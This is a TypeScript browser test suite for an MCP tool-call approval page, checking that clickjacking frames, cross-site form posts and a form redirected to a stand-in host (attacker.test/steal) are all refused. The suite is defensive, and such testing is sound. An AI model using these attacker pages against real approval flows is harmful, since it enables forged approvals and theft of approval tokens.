/**
 * A person approves a call in a real browser: the MCP SDK v2 client (2026-07-28) calls
 * `delete_record`, is answered with an approval URL, and its `elicitation/create` handler opens
 * it in headless Chromium, where a person signs in on the local sign-in page (the Cognito
 * stand-in, on an origin of its own), reads the call on the approval page and presses Approve;
 * the client's retry then runs the call. The stack is the synthesized one in the local
 * emulator. What a browser enforces on the page (CSP form-action, frame-ancestors, SameSite
 * cookies, Origin on form posts) is what the attacks below try to get around.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import {
  Client as ModernClient,
  StreamableHTTPClientTransport as ModernTransport,
} from '@modelcontextprotocol/client';
import type { Browser, Page } from 'puppeteer-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AUDIT_EVENTS, AUDIT_FIELDS } from '../../../lambda/shared/audit';
import { loadSigningKey, mintAccessToken } from '../../../tools/local/identity';
import { useLocalGateway } from '../../support/local-gateway-fixture';
import { launchBrowser, Steps } from './browser';

/** Another site, as the browser resolves it: where an attacker's pages are served. */
const ATTACKER_HOST = 'attacker.test';

const local = useLocalGateway('mcp-browser-approval-');
let browser: Browser;
let trap: Server;
let trapPort = 0;
/** What reached the attacker's server other than its own pages. */
const trapped: string[] = [];
const cognitoOrigin = () => local.gateway.emulator.cognitoOrigin;

beforeAll(async () => {
  trap = createServer((req, res) => {
    const url = new URL(req.url ?? '/', 'http://trap');
    if (url.pathname === '/post') {
      // Another site's page posting an approval form to the server, with fields it was given.
      const field = (name: string) => (url.searchParams.get(name) ?? '').replace(/"/g, '');
      res
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(
          `<form method="post" action="${field('action')}"><input name="ticket" value="${field('ticket')}"><input name="form" value="${field('form')}"><input name="decision" value="approve"><button>go</button></form>`,
        );
      return;
    }
    if (url.pathname === '/frame') {
      const src = (url.searchParams.get('src') ?? '').replace(/"/g, '');
      res
        .writeHead(200, { 'Content-Type': 'text/html' })
        .end(
          `<p>Click the button below!</p><iframe id="victim" src="${src}" width="600" height="400"></iframe>`,
        );
      return;
    }
    trapped.push(`${req.method} ${req.url}`);
    res.writeHead(200, { 'Content-Type': 'text/plain' }).end('trapped');
  });
  await new Promise<void>((resolve) => trap.listen(0, '127.0.0.1', resolve));
  trapPort = (trap.address() as AddressInfo).port;
  browser = await launchBrowser({ hostResolverRules: `MAP ${ATTACKER_HOST} 127.0.0.1` });
});

afterAll(async () => {
  await browser?.close();
  await new Promise((resolve) => trap?.close(resolve));
});

/**
 * A new tab whose browser-side refusals (CSP, framing) are collected: in a person's browser of
 * its own (a fresh profile: no cookies), or in the one `of` another tab is in.
 */
async function newPage(of?: Page): Promise<{ page: Page; console: string[] }> {
  const context = of?.browserContext() ?? (await browser.createBrowserContext());
  const page = await context.newPage();
  const messages: string[] = [];
  page.on('console', (message) => messages.push(message.text()));
  return { page, console: messages };
}

/** Until the tab shows a URL that passes `done` (pages that go on by themselves). */
async function waitForUrl(page: Page, done: (url: URL) => boolean, timeoutMs = 10_000) {
  const deadline = Date.now() + timeoutMs;
  while (!done(new URL(page.url()))) {
    if (Date.now() > deadline) throw new Error(`The tab stayed at ${page.url()}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

/** What a person does: open the URL, sign in as `sub`, land on the approval page. */
async function openAndSignIn(page: Page, steps: Steps, url: string, sub: string) {
  await page.goto(url);
  await page.waitForSelector('input[name="sub"]', { timeout: 10_000 });
  expect(new URL(page.url()).origin).toBe(cognitoOrigin());
  await steps.shot(page, 'sign-in page');
  await page.$eval('input[name="sub"]', (input) => {
    (input as HTMLInputElement).value = '';
  });
  await page.type('input[name="sub"]', sub);
  await page.click('input[name="groups"][value="admin"]');
  await page.click('button[type="submit"]');
  await waitForUrl(page, (at) => at.pathname.endsWith('/approve'));
  await page.waitForSelector('body', { timeout: 10_000 });
  await steps.shot(page, 'approval page');
}

/** A 2026-07-28 client whose URL handler is `open`; returns it connected as `sub`. */
async function modernClient(sub: string, open: (url: string) => void): Promise<ModernClient> {
  const client = new ModernClient(
    { name: 'browser-approval', version: '1.0.0' },
    {
      capabilities: { elicitation: { url: {} } },
      versionNegotiation: { mode: { pin: '2026-07-28' } },
    },
  );
  client.setRequestHandler('elicitation/create', async (request) => {
    const params = request.params as { mode?: string; url?: string };
    if (params.mode !== 'url' || params.url === undefined) return { action: 'decline' };
    open(params.url);
    return { action: 'accept' };
  });
  const token = mintAccessToken(loadSigningKey(local.dir), { sub, groups: ['admin'] });
  await client.connect(
    new ModernTransport(new URL(local.gateway.mcpUrl), {
      requestInit: { headers: { Authorization: `Bearer ${token}` } },
    }),
  );
  return client;
}

/** The approval URL a 2025-11-25 call gets, by a raw request (no SDK needed to read -32042). */
async function approvalUrl(sub: string, id: string): Promise<string> {
  const token = mintAccessToken(loadSigningKey(local.dir), { sub, groups: ['admin'] });
  const response = await fetch(local.gateway.mcpUrl, {
    method: 'POST',
    headers: {
      Authorization: `Bearer ${token}`,
      'Content-Type': 'application/json',
      Accept: 'application/json, text/event-stream',
      'MCP-Protocol-Version': '2025-11-25',
    },
    body: JSON.stringify({
      jsonrpc: '2.0',
      id: 1,
      method: 'tools/call',
      params: { name: 'delete_record', arguments: { id } },
    }),
  });
  const text = await response.text();
  const data = text
    .split('\n')
    .find((line) => line.startsWith('data:'))
    ?.slice(5);
  const url = (
    JSON.parse(data ?? text) as { error?: { data?: { elicitations?: { url: string }[] } } }
  ).error?.data?.elicitations?.[0]?.url;
  if (url === undefined) throw new Error(`No approval URL in ${text.slice(0, 200)}`);
  return url;
}

describe('a person approves a call in a real browser', () => {
  it('the MCP SDK v2 client opens the URL, the person approves, and the call completes', async () => {
    // Prepare
    const steps = new Steps();
    const { page } = await newPage();
    let browserSide: Promise<void> | undefined;
    let scripts: number | undefined;
    let pageHeaders: Record<string, string> | undefined;
    const client = await modernClient('tara', (url) => {
      browserSide = (async () => {
        page.on('response', (response) => {
          const shown =
            new URL(response.url()).pathname.endsWith('/approve') &&
            response.request().method() === 'GET' &&
            response.status() === 200;
          if (shown) pageHeaders ??= response.headers();
        });
        await openAndSignIn(page, steps, url, 'tara');
        scripts = await page.evaluate(() => document.scripts.length);
        await page.click('button[value="approve"]');
        await page.waitForFunction(() => document.title === 'Approved', { timeout: 10_000 });
        await steps.shot(page, 'approved');
      })();
    });

    try {
      // Act
      const result = await client.callTool({
        name: 'delete_record',
        arguments: { id: 'cust-0031' },
      });
      await browserSide;

      // Assess
      expect(result.structuredContent).toEqual({ deleted: true, id: 'cust-0031' });
      expect(await page.$eval('body', (body) => body.textContent)).toContain('You approved');
      expect(pageHeaders?.['content-security-policy']).toMatch(/frame-ancestors 'none'/);
      expect(pageHeaders?.['content-security-policy']).toMatch(/form-action 'self'/);
      expect(pageHeaders?.['content-security-policy']).not.toMatch(/script-src/);
      expect(pageHeaders?.['x-frame-options']).toBe('DENY');
      expect(scripts).toBe(0);
      const steps = local.logs
        .records()
        .filter(
          (record) =>
            record[AUDIT_FIELDS.event] === AUDIT_EVENTS.approval &&
            record[AUDIT_FIELDS.caller] === 'tara',
        )
        .map((record) => record[AUDIT_FIELDS.step]);
      expect(steps).toEqual(['requested', 'sign_in', 'sign_in', 'shown', 'approved', 'consumed']);
    } finally {
      await client.close();
      await page.browserContext().close();
    }
  });
});

describe('what the browser must refuse', () => {
  it('sends an agent without the person’s browser sign-in to the sign-in page, not the call', async () => {
    // Prepare: a browser that never signed in here (the agent's own)
    const context = await browser.createBrowserContext();
    const page = await context.newPage();
    const url = await approvalUrl('vera', 'cust-0032');

    try {
      // Act
      await page.goto(url);

      // Assess
      expect(new URL(page.url()).origin).toBe(cognitoOrigin());
      expect(await page.content()).not.toContain('cust-0032');
    } finally {
      await context.close();
    }
  });

  it('will not show the approval page in another site’s frame (clickjacking)', async () => {
    // Prepare: the person signed in and the page would show
    const steps = new Steps();
    const { page } = await newPage();
    const url = await approvalUrl('wendy', 'cust-0033');
    await openAndSignIn(page, steps, url, 'wendy');

    // Act: another site frames the same URL in the person's browser
    const { page: attacker, console } = await newPage(page);
    await attacker.goto(`http://${ATTACKER_HOST}:${trapPort}/frame?src=${encodeURIComponent(url)}`);
    await new Promise((resolve) => setTimeout(resolve, 1000));
    await steps.shot(attacker, 'framing attempt');
    const framed = attacker.frames().find((frame) => frame !== attacker.mainFrame());
    const buttons = await framed?.$$eval('button', (found) => found.length).catch(() => 0);

    // Assess
    expect(buttons ?? 0).toBe(0);
    expect(console.join('\n')).toMatch(/frame-ancestors|X-Frame-Options/);
    await page.browserContext().close();
  });

  it('refuses the approval form posted from another site, even with the page’s own fields', async () => {
    // Prepare: the person's page, its ticket and form token copied onto another site's page
    const steps = new Steps();
    const { page } = await newPage();
    const url = await approvalUrl('xena', 'cust-0034');
    await openAndSignIn(page, steps, url, 'xena');
    const fields = await page.evaluate(() => ({
      action: (document.querySelector('form') as HTMLFormElement).action,
      ticket: (document.querySelector('input[name="ticket"]') as HTMLInputElement).value,
      form: (document.querySelector('input[name="form"]') as HTMLInputElement).value,
    }));
    const { page: attacker } = await newPage(page);
    await attacker.goto(
      `http://${ATTACKER_HOST}:${trapPort}/post?${new URLSearchParams(fields).toString()}`,
    );

    // Act
    const [response] = await Promise.all([
      attacker.waitForNavigation({ timeout: 10_000 }),
      attacker.click('button'),
    ]);
    await steps.shot(attacker, 'cross-site post');
    const text = await attacker.$eval('body', (body) => body.textContent);
    // The person's own page still answers: nothing was recorded.
    await page.click('button[value="deny"]');
    await page.waitForFunction(() => document.title === 'Denied', { timeout: 10_000 });

    // Assess
    expect(response?.status()).toBe(403);
    expect(text).toContain('accepted only from this server’s own page');
    await page.browserContext().close();
  });

  it('lets the approval form go nowhere but this server (CSP form-action)', async () => {
    // Prepare: the page's form pointed elsewhere, as injected markup would
    const steps = new Steps();
    const { page, console } = await newPage();
    const url = await approvalUrl('yara', 'cust-0035');
    await openAndSignIn(page, steps, url, 'yara');
    trapped.length = 0;
    await page.$eval(
      'form',
      (form, target) => {
        (form as HTMLFormElement).action = target;
      },
      `http://${ATTACKER_HOST}:${trapPort}/steal`,
    );

    // Act
    await page.click('button[value="approve"]');
    await new Promise((resolve) => setTimeout(resolve, 500));
    await steps.shot(page, 'after the tampered submit');

    // Assess
    expect(trapped).toEqual([]);
    expect(new URL(page.url()).pathname).toMatch(/\/approve$/);
    expect(console.join('\n')).toMatch(
      /violates the following Content Security Policy directive: "form-action/,
    );
    await page.browserContext().close();
  });
});
